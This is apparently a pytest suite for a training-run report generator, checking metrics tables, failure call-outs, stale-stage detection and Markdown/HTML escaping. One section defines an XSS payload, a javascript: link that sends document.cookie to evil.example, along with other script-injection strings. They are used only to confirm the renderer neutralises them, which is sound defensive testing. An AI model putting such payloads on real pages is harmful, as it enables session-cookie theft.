"""The run report: built from the committed tiny run folders in tests/assets/runs (see their README), it shows every
stage's measured numbers and nothing else, shows a failed or unfinished stage as such, and renders in Chromium."""

import base64
import io
import json
import re
import shutil
import subprocess
from html import unescape
from pathlib import Path

import pytest

from posttrain.io import replace_dir
from posttrain.report import accuracy_line, build_comparison, build_report, inputs, plots, sections, stage_metrics
from posttrain.report.blocks import Cell, Para, Table, literal
from posttrain.report.compare import comparison, comparison_rows, variant_summaries
from posttrain.report.load import error_cause, load_run
from posttrain.report.plots import assign_panels
from posttrain.report.render import inline_html, inline_md, to_html, to_markdown

ASSETS = Path(__file__).parent / "assets" / "runs"
TINY = Path(__file__).resolve().parent.parent / "recipes" / "tiny" / "text.yaml"
STAGES = ["base", "sft", "dpo", "upo"]


def copy_runs(tmp_path: Path) -> Path:
    """Reports are written into the run folder: work on a copy of the committed runs."""
    shutil.copytree(ASSETS, tmp_path / "runs")
    return tmp_path / "runs"


def md_row(markdown: str, label: str, section: str = "") -> list[str]:
    """The cells of the first Markdown table row whose first cell is `label` (after heading `section`, if given)."""
    if section:
        markdown = markdown.split(section, 1)[1]
    for line in markdown.splitlines():
        cells = [c.strip() for c in line.strip().strip("|").split(" | ")]
        if cells and unescape(re.sub(r"\\(.)", r"\1", cells[0])) == label:  # model text is shown escaped
            return cells[1:]
    raise AssertionError(f"no table row {label!r} in the report")


@pytest.fixture(scope="module")
def full_report(tmp_path_factory):
    """The report of the committed base → sft → dpo → upo run (built once: plotting takes seconds)."""
    runs = copy_runs(tmp_path_factory.mktemp("report"))
    html = build_report(runs / "tiny-full")
    return runs / "tiny-full", html.read_text(), (runs / "tiny-full" / "report.md").read_text()


# ------------------------------------------------------------------------------------------------ finished run
def test_report_shows_every_stage_metric_from_metrics_json(full_report):
    run, html, md = full_report
    metrics = {s: json.loads((run / s / "metrics.json").read_text()) for s in STAGES}
    assert md_row(md, "accuracy (verifier)")[:4] == [f"{metrics[s]['eval']['accuracy']:.1%}" for s in STAGES]
    assert md_row(md, "format: think tags well formed")[:4] == [f"{metrics[s]['eval']['format']:.1%}" for s in STAGES]
    assert md_row(md, "held-out loss of reference replies (nats/token)")[:4] == [
        f"{metrics[s]['eval']['heldout_loss']:.4g}" for s in STAGES]
    assert md_row(md, "accuracy · thinking on")[:4] == [
        f"{metrics[s]['eval']['by_group']['mode/thinking']:.1%}" for s in STAGES]
    assert md_row(md, "accuracy (verifier)")[4] == "+37.5 pts"  # base → upo, computed from the two cells
    for stage in ("sft", "dpo", "upo"):  # training summary: steps and mean train loss as recorded
        train = metrics[stage]["train"]
        assert md_row(md, f"**{stage}**", "## Training curves")[1:3] == [str(train["global_step"]),
                                                                          f"{train['train_loss']:.4g}"]
    # committed runs from before per-prompt verdicts: intervals from n, no paired test
    assert "base 0.0% (0–32) → sft 0.0% (0–32) → dpo 0.0% (0–32) → upo 37.5% (14–69)" in md
    assert md_row(md, "accuracy") == ["16.7%", "16.7%"]  # dpo's own preference eval, before → after
    assert "Stage" not in md.split("## Steps")[0], "no failure call-out for a finished run"


def test_report_has_the_sample_table_for_both_modes(full_report):
    run, html, md = full_report
    samples = {s: json.loads((run / s / "metrics.json").read_text())["eval"]["samples"] for s in STAGES}
    assert "### Thinking on (3 prompts)" in md and "### Thinking off (1 prompts)" in md
    for i, sample in enumerate(samples["base"]):
        row = md_row(md, sample["prompt"])
        assert row[0] == sample["answer"]
        assert [cell.split("<br>")[0] for cell in row[1:]] == [
            "✓ correct" if samples[s][i]["correct"] else "✗ wrong" for s in STAGES]
    assert md_row(md, "**correct on these prompts**")[1:] == ["0 / 3", "0 / 3", "0 / 3", "2 / 3"]
    # model output is shown literally: think tags escaped in Markdown, never interpreted as HTML
    assert "&lt;think&gt;<br>146 &lt; 823<br>&lt;/think&gt;<br><br>146" in md
    assert "&lt;think&gt;\n146 &lt; 823\n&lt;/think&gt;" in html
    assert "(blank: 8 whitespace characters)" in md


def test_report_is_self_contained_and_md_has_its_pngs(full_report):
    run, html, md = full_report
    assert not re.search(r"<(script|link|iframe)\b", html)
    assert not re.search(r"""(src|href)=["']?(https?:)?//""", html)
    images = re.findall(r'src="data:image/png;base64,([^"]+)"', html)
    assert len(images) >= 6 and len(images) == html.count("<img")  # every image is embedded
    from PIL import Image

    for data in images:  # every embedded plot decodes
        Image.open(io.BytesIO(base64.b64decode(data))).verify()
    linked = re.findall(r"!\[[^\]]*\]\((report_files/[^)]+\.png)\)", md)
    assert {"report_files/curves_upo.png", "report_files/eval_by_stage.png",
            "report_files/loss_all_stages.png", "report_files/ablation_proxy_vs_true.png"} <= set(linked)
    assert {p.name for p in (run / "report_files").glob("*.png")} == {Path(p).name for p in linked}
    assert "report_files/diagnostics_upo.png" in linked  # inside <details>, in Markdown too


def test_a_report_built_again_redraws_only_the_figures_whose_inputs_changed(tmp_path, monkeypatch):
    run = copy_runs(tmp_path) / "tiny-full"
    build_report(run)
    files = run / "report_files"
    first = {p.name: p.read_bytes() for p in files.glob("*.png")}
    assert set(json.loads((files / "figures.json").read_text())) == set(first)  # every figure keyed

    drawn = []
    real = plots.png
    monkeypatch.setattr(plots, "png", lambda fig: drawn.append(fig) or real(fig))
    build_report(run)  # nothing changed: nothing drawn, the same figures
    assert drawn == []
    assert {p.name: p.read_bytes() for p in files.glob("*.png")} == first

    metrics = json.loads((run / "dpo" / "metrics.json").read_text())
    for entry in metrics["log_history"]:
        if "loss" in entry:
            entry["loss"] += 1.0
    (run / "dpo" / "metrics.json").write_text(json.dumps(metrics))
    (files / "curves_upo.png").write_bytes(b"damaged")  # a key that matches does not make a bad file good...
    (files / "figures.json").write_text(json.dumps({**json.loads((files / "figures.json").read_text()),
                                                    "curves_upo.png": "another key"}))  # ...but a changed key redraws
    build_report(run)
    again = {p.name: p.read_bytes() for p in files.glob("*.png")}
    redrawn = {name for name in first if again[name] != first[name]}
    assert {"curves_dpo.png", "loss_all_stages.png"} <= redrawn  # dpo's loss changed, and the run's loss plot with it
    assert again["curves_upo.png"] == first["curves_upo.png"]  # redrawn because its key differed
    # dpo's curves and diagnostics (both drawn from its logs), the run's loss and upo's curves; the rest reused
    assert len(drawn) == 4


def test_a_figure_is_not_reused_from_a_report_written_after_its_index_was_read(tmp_path):
    def figure(logs):  # stands in for a plot: the PNG of its input
        return f"png of {logs}".encode()

    def write_report(folder, logs):  # a whole report_files/, replaced as render.write_documents does
        def write(tmp):
            (tmp / "curves.png").write_bytes(figure(logs))
            (tmp / plots.Reuse.INDEX).write_text(json.dumps({"curves.png": plots.figure_key(figure, (logs,), {})}))

        replace_dir(folder, write)

    files = tmp_path / "report_files"
    write_report(files, "old logs")
    reuse = plots.Reuse(files)  # `posttrain report` reads the run (old logs) and the last report's index...
    write_report(files, "new logs")  # ...the pipeline writes its report from newer logs meanwhile...
    assert reuse.draw("curves.png", figure, "old logs")[0] == b"png of old logs"  # ...whose figure is not ours
    assert reuse.draw("curves.png", figure, "new logs")[0] == b"png of new logs"

def test_report_sections_lineage_and_data_cards(full_report):
    run, html, md = full_report
    for section in ("## Steps", "## Evaluation", "## Training curves", "## Held-out samples", "## Ablation",
                    "## Recipe and lineage", "## Data"):
        assert section in md
    card = json.loads((run / "data" / "verifiable" / "card.json").read_text())
    assert card["fingerprint"] in md and "[Full data card](data/verifiable/README.md)" in md
    assert md.count("matches data card") == 3  # sft, dpo, upo trained on the data the cards describe
    assert md_row(md, "trl") == ["1.16.0"] and md_row(md, "`upo_lambda`")[-1] == "0.5"
    assert 'id="evaluation"' in html and "<details>" in html


# ------------------------------------------------------------------------------------------------ partial runs
def test_failed_stage_shows_its_error(tmp_path):
    run = copy_runs(tmp_path) / "tiny-failed"
    html = build_report(run).read_text()
    md = (run / "report.md").read_text()
    assert "**Stage dpo failed:** UserError: pre-flight:" in md
    assert "max_length=192 would cut every reply token" in md and "Not run because of it: upo." in md
    assert "Full log: `.dpo.partial/dpo.log`" in md
    assert md_row(md, "**dpo**")[0] == "failed" and md_row(md, "**upo**")[0] == "not started"
    assert md_row(md, "accuracy (verifier)")[:4] == ["0.0%", "0.0%", "not measured", "not measured"]
    assert "dpo (failed)" in md and "upo (not started)" in md
    assert 'class="callout failed"' in html and "last lines of the dpo log" in html


def test_unfinished_stage_shows_its_checkpoint_curves(tmp_path):
    run = copy_runs(tmp_path) / "tiny-full"
    metrics = json.loads((run / "upo" / "metrics.json").read_text())
    checkpoint = run / ".upo.partial" / "checkpoint-4"
    checkpoint.mkdir(parents=True)
    (checkpoint / "trainer_state.json").write_text(json.dumps({"log_history": metrics["log_history"][:4]}))
    shutil.rmtree(run / "upo")
    state = json.loads((run / "run.json").read_text())
    state["steps"]["upo"] = {"status": "running", "started": "2026-11-23 19:33:00"}
    state["steps"]["run"]["status"] = "running"
    (run / "run.json").write_text(json.dumps(state))
    build_report(run)
    md = (run / "report.md").read_text()
    assert md_row(md, "**upo**")[0] == "running (or interrupted)"
    assert "From checkpoint-4 (unfinished stage): the stage has not finished." in md
    assert (run / "report_files" / "curves_upo.png").is_file()
    assert md_row(md, "accuracy (verifier)")[3] == "not measured"


def test_missing_measurements_say_not_measured(tmp_path):
    run = copy_runs(tmp_path) / "tiny-full"
    base = json.loads((run / "base" / "metrics.json").read_text())
    (run / "base" / "metrics.json").write_text(json.dumps({**base, "eval": None}))
    sft = json.loads((run / "sft" / "metrics.json").read_text())
    del sft["eval"]["heldout_loss"], sft["adapter"]
    (run / "sft" / "metrics.json").write_text(json.dumps(sft))
    build_report(run, compare=[])
    md = (run / "report.md").read_text()
    assert md_row(md, "accuracy (verifier)")[:4] == ["not measured", "0.0%", "0.0%", "37.5%"]
    assert md_row(md, "accuracy (verifier)")[4] == "+37.5 pts"  # the change is from the first measured stage
    assert "change sft → upo" in md
    assert md_row(md, "held-out loss of reference replies (nats/token)")[1] == "not measured"
    assert md_row(md, "**sft**", "## Training curves")[5:7] == ["not measured", "not measured"]  # adapter


def test_kept_summary_helpers(tmp_path):
    run = copy_runs(tmp_path) / "tiny-failed"
    assert list(stage_metrics(run)) == ["base", "sft"]
    assert accuracy_line(run) == "base 0.0% (0–32) → sft 0.0% (0–32)"


# ------------------------------------------------------------------------------------------------ ablation, CLI
def test_ablation_compares_true_accuracy_with_proxy_reward(tmp_path):
    runs = copy_runs(tmp_path)
    rows = {r["run"]: r for r in comparison_rows([runs / "tiny-full", runs / "tiny-full-lambda0"])}
    assert rows["tiny-full"]["accuracy"] == 0.375 and rows["tiny-full-lambda0"]["accuracy"] == 0.125
    logs = json.loads((runs / "tiny-full" / "upo" / "metrics.json").read_text())["log_history"]
    raw = [sum(v for k, v in e.items() if re.fullmatch(r"upo/reward/[^/]+/mean", k)) /
           sum(1 for k in e if re.fullmatch(r"upo/reward/[^/]+/mean", k)) for e in logs if "loss" in e]
    label, value, count, stage = rows["tiny-full"]["proxy"]
    assert (label, count, stage) == ("raw reward, mean over domains", 5, "upo")
    assert value == pytest.approx(sum(raw[-5:]) / 5)  # not TRL's `reward`, which is normalised per domain here
    html = build_comparison([runs / "tiny-full", runs / "tiny-full-lambda0"], tmp_path / "cmp")
    md = (tmp_path / "cmp" / "comparison.md").read_text()
    assert md_row(md, "**tiny-full-lambda0**")[:3] == ["upo", "0", "12.5%"]  # varied setting: upo_lambda
    lambda0 = json.loads((runs / "tiny-full-lambda0" / "upo" / "metrics.json").read_text())["eval"]
    assert md_row(md, "**tiny-full-lambda0**")[4:6] == [f"{lambda0[k]:.1%}" for k in ("format", "stop_rate")]
    assert html.is_file() and (tmp_path / "cmp" / "comparison_files" / "ablation_proxy_vs_true.png").is_file()


def test_the_training_proxy_is_trls_reward_unless_the_rewards_were_normalised():
    """TRL's `reward` is the proxy; with `normalize_rewards_by` it is standardised per group (mean ~0 by
    construction), and the raw per-domain means UPO logs are averaged over the domains instead."""
    from posttrain.report.compare import proxy_reward

    logs = [{"reward": 0.9, "upo/reward/math/mean": 0.2, "upo/reward/code/mean": 0.6}]
    assert proxy_reward(logs) == ("`reward`", 0.9, 1)
    assert proxy_reward(logs, normalized=True) == ("raw reward, mean over domains", pytest.approx(0.4), 1)


def test_a_before_and_after_measure_recorded_as_null_is_not_measured(tmp_path):
    """DPO without held-out pairs records `"preference": {"before": null, "after": null}`: a row that says so, not a
    table without rows."""
    run = copy_runs(tmp_path) / "tiny-full"
    edit_json(run / "dpo" / "metrics.json", lambda m: m.update(preference={"before": None, "after": None}))
    md = to_markdown(sections.stage_extras(load_run(run).stage("dpo")), "files")
    assert md_row(md, "`preference`") == ["not measured", "not measured"]


def test_a_stage_that_failed_after_an_earlier_attempts_evaluation_is_not_measured(tmp_path):
    """A stage step that failed (or is running again) keeps the metrics.json of an earlier attempt: not its result."""
    runs = copy_runs(tmp_path)
    edit_json(runs / "tiny-full" / "run.json", lambda s: [s["steps"][step].update(status="failed")
                                                          for step in ("upo", "run")])
    row = comparison_rows([runs / "tiny-full"])[0]
    assert (row["stage"], row["accuracy"], row["where"]) == ("upo", None, "upo failed")


def test_the_scatter_plots_every_run_on_one_proxy(tmp_path, monkeypatch):
    """A run evaluated before the held-out proxy was recorded has none (the committed runs): where only some runs
    have it, every run is plotted at its training reward, so none drops out of the plot and no two proxies share an
    axis."""
    runs = copy_runs(tmp_path)
    set_eval(runs / "tiny-full", "upo", proxy_reward=0.7)
    drawn = []

    def proxy_vs_true(points, xlabel):
        drawn.append((points, xlabel))

    monkeypatch.setattr(plots, "proxy_vs_true", proxy_vs_true)
    comparison([runs / "tiny-full", runs / "tiny-full-lambda0"])
    (points, xlabel), = drawn
    assert len(points) == 2 and xlabel == "proxy: training reward, last logged steps"


def test_runs_that_finished_at_different_stages_are_read_at_the_recipes_last(tmp_path):
    """Finished runs that ended at different stages (runs with other --until) have no one stage in common: they are
    all read at the last stage of the first run's recipe, not at one of their ends picked at random."""
    from posttrain.report.compare import read_at

    runs = copy_runs(tmp_path)
    for run, gone in (("tiny-full", ("dpo", "upo")), ("tiny-full-lambda0", ("upo",))):
        for stage in gone:
            shutil.rmtree(runs / run / stage)
            edit_json(runs / run / "run.json", lambda s, stage=stage: s["steps"].pop(stage, None))
    views = [load_run(runs / "tiny-full"), load_run(runs / "tiny-full-lambda0")]
    assert [[s.name for s in v.stages if s.status == "done"][-1] for v in views] == ["sft", "base"]
    assert read_at(views) == "upo"


def test_runs_of_one_name_in_two_folders_are_told_apart_by_their_folders(tmp_path):
    """A run of an earlier version kept in another output folder and its rerun: one recipe name, two rows."""
    runs = copy_runs(tmp_path)
    rerun = shutil.copytree(runs / "tiny-full", tmp_path / "rerun" / "tiny-full")
    edit_json(rerun / "upo" / "metrics.json", lambda m: m["eval"].update(accuracy=0.5))
    rows = comparison_rows([runs / "tiny-full", rerun, runs / "tiny-full-lambda0"])
    assert [r["run"] for r in rows] == [str(runs / "tiny-full"), str(rerun), "tiny-full-lambda0"]
    assert [r["accuracy"] for r in rows] == [0.375, 0.5, 0.125]


def test_cli_report(tmp_path):
    from posttrain.cli import main

    runs = copy_runs(tmp_path)
    assert main(["report", str(runs / "tiny-failed"), "--compare", str(runs / "tiny-full-lambda0")]) == 0
    assert "## Ablation" in (runs / "tiny-failed" / "report.md").read_text()
    assert main(["report", str(tmp_path)]) == 2  # not a run folder: a one-paragraph error
    assert main(["report", str(runs / "tiny-failed"), "--compare", str(tmp_path)]) == 2


def test_a_run_whose_run_json_a_power_loss_left_empty_is_reported_from_its_stage_folders(tmp_path):
    """run.json written empty (`runs.run_state`): the report reads the run as one from before `order` was recorded,
    not a JSONDecodeError traceback."""
    run = copy_runs(tmp_path) / "tiny-full"
    (run / "run.json").write_text("")
    assert accuracy_line(run).startswith("base 0.0% (0–32) → sft 0.0% (0–32)")
    assert [s.name for s in load_run(run).stages] == STAGES


# ------------------------------------------------------------------------------------------------ units
def test_error_cause_is_the_stage_exception_not_the_launcher():
    log = ("Traceback (most recent call last):\n  File \"x.py\", line 1\nposttrain.errors.UserError: row 2 is empty\n"
           "Traceback (most recent call last):\nsubprocess.CalledProcessError: Command '[...]' returned non-zero")
    assert error_cause(log) == "UserError: row 2 is empty"
    assert error_cause("python3: No module named posttrain.stages.upo\nsubprocess.CalledProcessError: x") == \
        "python3: No module named posttrain.stages.upo"
    assert error_cause("torch.OutOfMemoryError: CUDA out of memory.") == "OutOfMemoryError: CUDA out of memory."


def test_a_stage_killed_mid_step_gives_the_recorded_cause_not_its_logs_last_line(tmp_path):
    """SIGKILLed (the OOM killer's signal), a stage leaves no exception in its log, whose last line is a progress bar:
    the cause is the one the pipeline recorded in run.json."""
    run = copy_runs(tmp_path) / "tiny-full"
    killed = "the process was killed by signal 9 (SIGKILL; SIGKILL often means the machine ran out of memory)"
    edit_json(run / "run.json", lambda s: s["steps"]["dpo"].update(status="failed", error=killed))
    (run / ".dpo.partial").mkdir()
    (run / ".dpo.partial" / "dpo.log").write_text("Map: 100%|██████████| 64/64\n 33%|███▎      | 1/3 [00:00<00:00]\n")
    assert load_run(run).stage("dpo").error_cause == killed


def test_panels_group_logged_keys_and_keep_unknown_ones():
    keys = ["loss", "eval_loss", "reward", "reward_std", "upo/pg_loss", "upo/dpo_loss", "upo/reward/math/mean",
            "upo/reward/math/std", "upo/pairs_online", "kl", "completions/mean_length", "completions/min_length",
            "completions/max_length", "rewards/accuracies", "learning_rate", "upo/brand_new_metric", "custom"]
    panels = {p.title: p.series for p in assign_panels(keys)}
    assert panels["Loss"] == ["loss", "eval_loss"]
    assert panels["UPO objective: PG vs λ·DPO terms"] == ["upo/dpo_loss", "upo/pg_loss"]
    assert panels["Reward per domain (raw, mean ± std)"] == ["upo/reward/math/mean"]  # std is its band
    assert panels["Reward (mean ± std over rollouts)"] == ["reward"]
    assert panels["Completion length (mean, min–max band)"] == ["completions/mean_length"]
    assert panels["Other: upo"] == ["upo/brand_new_metric"] and panels["Other: other"] == ["custom"]
    assert not any("std" in k or "min_length" in k for series in panels.values() for k in series)



def test_figures_do_not_depend_on_a_matplotlibrc():  # figure_key does not see one, so a reused figure would keep it
    import matplotlib

    drawn = plots.proxy_vs_true([("a", 0.2, 0.5)], "proxy")
    with matplotlib.rc_context({"axes.facecolor": "black", "lines.linewidth": 4}):  # as a user's matplotlibrc sets
        assert plots.proxy_vs_true([("a", 0.2, 0.5)], "proxy") == drawn

def test_markdown_escapes_model_output():
    assert inline_md("say <think>") == "say &lt;think&gt;"
    assert inline_md("`<b>` and **x**") == "`<b>` and **x**"
    md = to_markdown([Table(["a"], [[Cell("x | y\n*z*", literal=True)]])], "files")
    assert "x \\| y<br>\\*z\\*" in md
    # a carriage return ends a Markdown line as a newline does: the row would break in two
    md = to_markdown([Table(["prompt", "completion", "reference"], [[Cell("a\r\nb\rc", literal=True), "d", "e"]])], "f")
    assert md.splitlines()[2] == "| a<br>b<br>c | d | e |"


def test_markdown_shows_underscores_stars_and_tildes_as_written():
    """Markdown (GitHub, the Hub) reads `__x__` as bold and `~~x~~` as struck out: an error message, a caption and a
    completion keep those characters, as the HTML page does."""
    markdown_it = pytest.importorskip("markdown_it")
    blocks = [Para(f"**Stage dpo failed:** {literal('TypeError: __init__() got an unexpected keyword_argument')}"),
              Table(["completion"], [[Cell("~~no~~ it is 4", literal=True)]], "dashed: held-out (eval_*) logs")]
    md = to_markdown(blocks, "files")
    assert "TypeError: \\_\\_init\\_\\_() got an unexpected keyword_argument" in md and "\\~\\~no\\~\\~ it is 4" in md
    rendered = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(md)
    assert "TypeError: __init__() got an unexpected keyword_argument" in rendered
    assert "~~no~~ it is 4" in rendered and "<s>" not in rendered
    assert "<em>dashed: held-out (eval_*) logs</em>" in rendered


# ---------------------------------------------------------------------------------------- text it did not write
PAYLOAD = "[see the docs](javascript:location='//evil.example/?'+document.cookie)"


def md_link_targets(markdown: str) -> list[str]:
    """Where the Markdown's links point (`[text](url)` whose `[` is not escaped)."""
    return re.findall(r"(?<!\\)\[[^\]]*\]\(\s*([^)\s]*)", markdown)


def edit_json(path: Path, change) -> None:
    data = json.loads(path.read_text())
    change(data)
    path.write_text(json.dumps(data))


def set_eval(run: Path, stage: str, **values) -> None:
    edit_json(run / stage / "metrics.json", lambda m: m["eval"].update(values))


def test_links_only_to_the_web_or_beside_the_report():
    for url in ("javascript:alert(1)", "JavaScript:x", "data:text/html,x", "//evil.example", "\x01javascript:x",
                "/\\evil.example", "vbscript:x"):
        assert "<a " not in inline_html(f"[x]({url})") and not md_link_targets(inline_md(f"[x]({url})"))
    for url in ("https://huggingface.co/x", "http://a.b", "#evaluation", "data/verifiable/README.md"):
        assert inline_html(f"[x]({url})") == f'<a href="{url}">x</a>' and inline_md(f"[x]({url})") == f"[x]({url})"
    assert inline_html(PAYLOAD) == "[see the docs](javascript:location=&#x27;//evil.example/?&#x27;+document.cookie)"
    # Markdown links `[x]( javascript:…)` (a space), which the marks do not: `[` is escaped outside links
    assert md_link_targets("[x]( javascript:alert(1))") and not md_link_targets(inline_md("[x]( javascript:alert(1))"))


def test_markdown_escapes_html_inside_bold_and_link_text():
    md = inline_md("row **<img src=x onerror=alert(1)>** and [<iframe src=//evil>](x)")
    assert md == "row **&lt;img src=x onerror=alert(1)&gt;** and [&lt;iframe src=//evil&gt;](x)"


def test_error_text_recipe_strings_and_data_cards_are_not_markup(tmp_path):
    run = copy_runs(tmp_path) / "tiny-full"
    resolved = run / "upo" / "resolved.yaml"
    resolved.write_text(resolved.read_text() + f'system_prompt: "{PAYLOAD} **loud**"\n')
    edit_json(run / "data" / "verifiable" / "card.json", lambda c: c["sources"][0].update(license=PAYLOAD))
    edit_json(run / "run.json", lambda s: s["steps"]["upo"].update(status="failed", error="see log"))
    (run / ".upo.partial").mkdir()
    (run / ".upo.partial" / "upo.log").write_text(f"ValueError: bad row **{PAYLOAD}**\n")
    view = load_run(run)
    blocks = sections.summary(view) + inputs.lineage(view) + inputs.data_cards(view)
    html, md = to_html(blocks, "t"), to_markdown(blocks, "files")
    assert "javascript:" in html and "href=\"javascript" not in html
    assert not [url for url in md_link_targets(md) if "javascript" in url]
    callout = next(b.text for b in blocks if isinstance(b, Para) and b.text.startswith("**Stage upo failed:**"))
    assert f"ValueError: bad row **{PAYLOAD}**" in unescape(inline_html(callout))  # as logged
    assert "<strong>loud</strong>" not in html and "**loud**" in unescape(html)


# --------------------------------------------------------------------------------------- what it must not claim
def test_failed_rerun_shows_the_earlier_attempts_numbers_as_such(tmp_path):
    """The pipeline keeps dpo/ until a new attempt succeeds: after a failed re-run its metrics are the old ones."""
    run = copy_runs(tmp_path) / "tiny-full"
    edit_json(run / "run.json", lambda s: s["steps"]["dpo"].update(status="failed", error="RuntimeError: oom"))
    (run / ".dpo.partial").mkdir()
    (run / ".dpo.partial" / "dpo.log").write_text("RuntimeError: CUDA out of memory (the new attempt)\n")
    assert accuracy_line(run) == ("base 0.0% (0–32) → sft 0.0% (0–32) → dpo 0.0% (0–32) (failed; from an earlier "
                                  "attempt) → upo 37.5% (14–69)")
    view = load_run(run)
    md = to_markdown(sections.summary(view) + [sections.eval_table(view)], "files")
    assert "Full log: `.dpo.partial/dpo.log`. The numbers shown for it are from an earlier attempt." in md
    assert "RuntimeError: CUDA out of memory (the new attempt)" in md
    assert "| dpo (failed; numbers from an earlier attempt) |" in md and "change base → upo" in md
    # a failed re-evaluation: run.json records its log, by the path on the machine that ran it
    edit_json(run / "run.json", lambda s: s["steps"]["upo"].update(
        status="failed", error="RuntimeError: oom", log="/elsewhere/outputs/tiny-full/upo/upo.eval.log"))
    (run / "upo" / "upo.eval.log").write_text("RuntimeError: out of memory\n")
    assert load_run(run).stage("upo").log_path == run / "upo" / "upo.eval.log"
    assert "change base → sft" in to_markdown([sections.eval_table(load_run(run))], "files")


def test_a_stage_not_yet_evaluated_again_after_eval_changed_is_not_compared_with_the_base(tmp_path):
    """`eval:` edited (more tokens, another set) and the run stopped while it evaluated the finished stages again: the
    base is scored with the new settings, the stages still with the old ones. Their numbers are not compared."""
    from posttrain.pipeline import Pipeline
    from posttrain.recipe import load_recipe

    raw = {"name": "r", "base": {"model_name_or_path": "tiny:llama"}, "stages": {"sft": {"dataset_name": "x"}}}
    pipeline = Pipeline(load_recipe(tmp_path / "r.yaml", raw=raw), tmp_path / "out")
    pipeline.resolve_base()
    pipeline.evaluate_base()  # no eval set: records the base's lineage only
    assert json.loads((pipeline.root / "base" / "lineage.json").read_text())["eval_hash"] == pipeline.eval_hash

    run = copy_runs(tmp_path) / "tiny-full"
    edit_json(run / "base" / "lineage.json", lambda lin: lin.update(eval_hash="new settings"))
    for stage in ("sft", "dpo", "upo"):
        edit_json(run / stage / "lineage.json", lambda lin: lin.update(eval_hash="old settings"))
    assert accuracy_line(run) == ("base 0.0% (0–32) → sft 0.0% (0–32) (evaluated with earlier `eval:` settings than "
                                  "the base) → dpo 0.0% (0–32) (evaluated with earlier `eval:` settings than the "
                                  "base) → upo 37.5% (14–69) (evaluated with earlier `eval:` settings than the base)")
    assert "change base" not in to_markdown([sections.eval_table(load_run(run))], "files")
    edit_json(run / "base" / "lineage.json", lambda lin: lin.update(eval_hash="old settings"))
    assert "(evaluated with" not in accuracy_line(run)


def test_a_stage_not_yet_evaluated_again_is_marked_where_it_is_compared_with_the_step_before(tmp_path):
    """The rerun after `eval:` was edited evaluated sft again and stopped before dpo: dpo's promotion record compares
    it with sft's earlier evaluation, which the report no longer shows. Its row says so, as the accuracy line does."""
    from posttrain.promotion import promotion

    run = copy_runs(tmp_path) / "tiny-full"
    for stage, settings in (("base", "new"), ("sft", "new"), ("dpo", "old"), ("upo", "old")):
        edit_json(run / stage / "lineage.json", lambda lin, settings=settings: lin.update(eval_hash=settings))
    before, after = ({"accuracy": sum(v) / 8, "verdicts": v, "prompts_sha": "old"} for v in ([0] * 8, [1] * 8))
    edit_json(run / "dpo" / "metrics.json", lambda m: m.update(promotion=promotion(None, "sft", before, after)))
    view = load_run(run)
    md = to_markdown([sections.eval_table(view), *sections.promotions(view)], "files")
    label = "dpo (evaluated with earlier `eval:` settings than the base)"
    assert md_row(md, f"**{label.replace('dpo', 'dpo**', 1)}")[:2] == ["sft", "+100.0 pts"]
    assert md_row(md, "metric")[2] == label


def test_an_interrupted_rerun_shows_the_earlier_attempts_numbers_as_such(tmp_path):
    """sft's settings edited and the re-run stopped (Ctrl-C, SIGTERM) while sft trained again: run.json marks it
    interrupted, and sft/ is still the earlier attempt's. Neither the accuracy line nor the steps table calls it done
    or compares it with the base."""
    run = copy_runs(tmp_path) / "tiny-full"
    edit_json(run / "run.json", lambda s: s["steps"]["sft"].update(status="interrupted"))
    assert accuracy_line(run).startswith("base 0.0% (0–32) → sft 0.0% (0–32) (interrupted; from an earlier attempt) "
                                         "→ dpo 0.0% (0–32) →")
    view = load_run(run)
    assert view.stage("sft").status == "running" and view.stage("sft").earlier
    assert md_row(to_markdown([sections.steps_table(view)], "files"), "**sft**")[0] == "running (or interrupted)"


def test_a_stage_trained_after_a_stage_the_chain_no_longer_runs_before_it_is_stale(tmp_path):
    """The recipe ran sft → dpo → upo, then without dpo with `--until sft` (or stopped at sft): upo/ is still the one
    trained from dpo, not what the chain sft → upo gives, so it is not compared with sft nor exported by default."""
    from posttrain.errors import UserError
    from posttrain.export import _check_promoted
    from posttrain.runs import stage_ref, stale_stages

    run = copy_runs(tmp_path) / "tiny-full"
    edit_json(run / "run.json", lambda s: s.update(order=["base", "sft", "upo"]))
    why = "trained from dpo, but the recipe now trains it from sft"
    assert stale_stages(run) == {"upo": why}
    assert accuracy_line(run).endswith(f"→ upo 37.5% (14–69) (stale: {why})")
    assert stage_ref(run).stage == "sft"
    with pytest.raises(UserError, match=re.escape(f"stage 'upo' is stale ({why}): it is not what the run's chain")):
        _check_promoted(stage_ref(run, "upo"), force=False)
    edit_json(run / "run.json", lambda s: s.update(order=["base", "dpo"]))  # dpo now first, trained after sft
    assert stale_stages(run) == {"dpo": "trained from sft, but the recipe now trains it from the base model"}


def test_stages_left_from_before_an_upgrade_retrained_their_previous_stage_are_stale(tmp_path):
    """A run of a version whose lineages had no `previous_inputs_hash` (the committed runs), then `run --only sft`
    after an upgrade: dpo and upo were trained from the sft before, so they are neither compared with the new sft
    nor exported by default."""
    from posttrain.runs import stage_ref, stale_stages

    run = copy_runs(tmp_path) / "tiny-full"
    assert stale_stages(run) == {}  # all from the old version: nothing says they are not one chain
    edit_json(run / "sft" / "lineage.json", lambda lin: lin.update(inputs_hash="sft-after-the-upgrade",
                                                                   previous_inputs_hash=None, previous_weights=None))
    assert stale_stages(run) == {"dpo": "trained from an earlier sft", "upo": "trained from an earlier dpo"}
    assert "dpo 0.0% (0–32) (stale: trained from an earlier sft)" in accuracy_line(run)
    assert stage_ref(run).stage == "sft"


def test_stages_recorded_before_base_hash_are_not_stale_beside_a_base_that_records_one(tmp_path):
    """The base evaluated again after an upgrade records a `base_hash`; stages trained by the version before have
    none: nothing says they were trained on another base, so they are not stale."""
    from posttrain.runs import stale_stages

    run = copy_runs(tmp_path) / "tiny-full"
    edit_json(run / "base" / "lineage.json", lambda lin: lin.update(base_hash="base-now"))
    assert stale_stages(run) == {}


def test_a_stage_whose_previous_stage_folder_is_gone_is_not_stale(tmp_path):
    """dpo recorded sft's inputs hash, then sft/ was removed (to train it again): no lineage says sft changed, so
    dpo is not called stale for it."""
    from posttrain.runs import stale_stages

    run = copy_runs(tmp_path) / "tiny-full"
    edit_json(run / "dpo" / "lineage.json", lambda lin: lin.update(previous_inputs_hash="sft-then"))
    dpo_hash = json.loads((run / "dpo" / "lineage.json").read_text())["inputs_hash"]
    edit_json(run / "upo" / "lineage.json", lambda lin: lin.update(previous_inputs_hash=dpo_hash))
    shutil.rmtree(run / "sft")
    assert stale_stages(run) == {}


